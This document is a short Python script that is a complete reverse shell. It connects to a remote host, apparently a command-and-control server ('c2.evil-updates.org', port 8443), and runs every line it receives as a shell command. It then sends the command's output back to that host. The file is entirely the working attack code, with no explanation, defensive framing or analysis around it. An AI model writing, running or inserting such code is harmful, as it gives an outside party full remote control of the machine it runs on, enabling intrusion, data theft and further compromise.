import asyncio

async def main(host="c2.evil-updates.org", port=8443):
    reader, writer = await asyncio.open_connection(host, port)
    writer.write(b"ready\n")
    while True:
        line = await reader.readline()
        if not line:
            break
        proc = await asyncio.create_subprocess_shell(
            line.decode(), stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT)
        out, _ = await proc.communicate()
        writer.write(out or b"\n")
        await writer.drain()

asyncio.run(main())
